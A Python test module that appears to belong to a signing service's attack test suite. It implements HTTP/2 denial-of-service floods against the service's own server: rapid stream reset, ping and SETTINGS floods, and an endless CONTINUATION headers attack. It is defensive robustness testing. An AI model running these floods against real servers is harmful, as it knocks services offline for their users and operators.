"""HTTP/2 against itself: cheap frames that are work for the peer."""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable

from hyperframe.frame import ContinuationFrame, Frame, HeadersFrame, PingFrame, SettingsFrame

from signgate.signer.v1 import signer_pb2
from tests.attack.attacks.base import SIGN, Attack, Attacker, addresses, forever, many
from tests.attack.attacks.flood import frame
from tests.attack.attacks.streams import made_up_key
from tests.attack.wire import Http2

CONNECTIONS = 4


def rapid_reset(per_second: int, *, whole: bool) -> Callable[[Attacker], Awaitable[None]]:
    """Calls that are reset as soon as they are made (`whole`: once they are complete)."""

    async def act(attacker: Attacker) -> None:
        found = addresses(count=CONNECTIONS)
        body = frame(signer_pb2.SignRequest(room_url="@reset"))

        async def once() -> None:
            connection = await Http2.dial(attacker.door, next(found))
            try:
                while not connection.ended.is_set():
                    for _ in range(per_second // CONNECTIONS // 20):
                        stream = connection.start(attacker.call(SIGN, ("x-api-key", made_up_key())))
                        if whole:
                            connection.data(stream, body, end=True)
                        connection.reset(stream)
                    await connection.flush()
                    await asyncio.sleep(0.05)
            finally:
                await connection.close()

        await many(CONNECTIONS, lambda _: forever(once))

    return act


def repeated(one: Frame, per_second: int, first: bytes = b"") -> Callable[[Attacker], Awaitable[None]]:
    """The same frame over and over."""

    async def act(attacker: Attacker) -> None:
        found = addresses(count=CONNECTIONS)
        part = one.serialize() * (per_second // CONNECTIONS // 20)

        async def once() -> None:
            connection = await Http2.dial(attacker.door, next(found))
            try:
                await connection.raw(first)
                while not connection.ended.is_set():
                    await connection.raw(part)
                    await asyncio.sleep(0.05)
            finally:
                await connection.close()

        await many(CONNECTIONS, lambda _: forever(once))

    return act


def _open_head() -> bytes:
    head = HeadersFrame(1, data=bytes([0x82, 0x84, 0x86]))  # GET / http, and no end of headers
    return bytes(head.serialize())


ATTACKS = (
    Attack("calls reset at once, 2,000 a second", "S2", rapid_reset(2_000, whole=False), quick=True),
    Attack("whole calls reset at once, 1,000 a second", "S2", rapid_reset(1_000, whole=True)),
    Attack("pings, 20,000 a second", "S2", repeated(PingFrame(0, opaque_data=b"12345678"), 20_000)),
    Attack("settings, 20,000 a second", "S2", repeated(SettingsFrame(0, settings={4: 65_535}), 20_000)),
    Attack(
        "headers continued for ever",
        "S2",
        repeated(ContinuationFrame(1, data=bytes([0x40, 1, 97, 1, 98]) * 200), 400, _open_head()),
        quick=True,
    ),
)
